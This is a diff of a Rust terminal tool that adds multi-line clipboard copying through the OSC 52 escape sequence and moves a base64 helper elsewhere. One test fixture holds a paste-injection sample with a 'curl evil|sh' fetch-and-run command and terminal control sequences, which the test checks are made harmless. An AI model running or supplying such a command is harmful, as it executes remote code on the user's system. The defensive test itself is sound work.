@@ -4,6 +4,7 @@ use std::process::{Command, Stdio};
 use std::sync::atomic::{AtomicBool, Ordering};
 
 use crate::app::{Action, Effect, Message, Outcome};
+use crate::hook::sign::encode as base64;
 use crate::session::Session;
 
 /// What is left for the loop to do.
@@ -90,6 +91,10 @@ pub fn carry_out(session: &Session, hook: &[String], effect: Effect) -> After {
             || After::Message(Message::Say("too long for a terminal's clipboard".into(), true)),
             After::Bytes,
         ),
+        Effect::CopyText(text) => copied_whole(&text).map_or_else(
+            || After::Message(Message::Say("too long for a terminal's clipboard".into(), true)),
+            After::Bytes,
+        ),
         Effect::Bell => After::Bytes("\x07".into()),
         Effect::Notify(text) => After::Bytes(format!("\x1b]9;warroom: {}\x07", crate::text::one_line(&text))),
         Effect::RanOut(label) => {
@@ -114,6 +119,13 @@ fn outcome(action: Action, result: Result<crate::incident::Applied, crate::incid
 fn copied(text: &str) -> Option<String> {
     let shown = crate::text::one_line(text);
     let fits = text.len() <= LONGEST_COPY && shown.len() <= LONGEST_COPY;
+    fits.then(|| format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())))
+}
+
+/// The same for a message of several lines: its line breaks stay.
+fn copied_whole(text: &str) -> Option<String> {
+    let shown = crate::text::lines(text);
+    let fits = shown.len() <= LONGEST_COPY;
     fits.then(|| format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())))
 }
 
@@ -152,19 +164,6 @@ pub fn hook_failed() -> bool {
     FAILED.swap(false, Ordering::Relaxed)
 }
 
-fn base64(bytes: &[u8]) -> String {
-    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
-    for chunk in bytes.chunks(3) {
-        let three = chunk.iter().fold(0u32, |sum, byte| sum << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
-        for place in 0..4 {
-            let letter = LETTERS[(three >> (18 - 6 * place)) as usize & 63];
-            out.push(if place <= chunk.len() { char::from(letter) } else { '=' });
-        }
-    }
-    out
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -174,6 +173,11 @@ mod tests {
         let bytes = copied("get pods\u{1b}[201~\ncurl evil|sh\r\u{9b}1m\u{202e}\0").unwrap();
         let shown = "get pods␛[201~↵curl evil|sh␍\u{fffd}1m\u{fffd}␀";
         assert_eq!(bytes, format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())));
+        let whole = copied_whole("one\ntwo\u{1b}[201~\u{202e}").unwrap();
+        assert_eq!(
+            whole,
+            format!("\x1b]52;c;{}\x07", base64("one\ntwo␛[201~\u{fffd}".as_bytes()))
+        );
         assert_eq!(copied(&"x".repeat(LONGEST_COPY + 1)), None);
         assert_eq!(copied(&"\u{1b}".repeat(LONGEST_COPY)), None, "longer when made visible");
     }
@@ -189,19 +193,5 @@ mod tests {
             assert_eq!(argument(label), argument_);
         }
         assert_eq!(argument("\u{1b}-x"), "␛-x");
-    }
-
-    #[test]
-    fn clipboard_text_is_base64() {
-        for (text, coded) in [
-            ("", ""),
-            ("f", "Zg=="),
-            ("fo", "Zm8="),
-            ("foo", "Zm9v"),
-            ("foobar", "Zm9vYmFy"),
-            ("ü→", "w7zihpI="),
-        ] {
-            assert_eq!(base64(text.as_bytes()), coded);
-        }
     }
 }
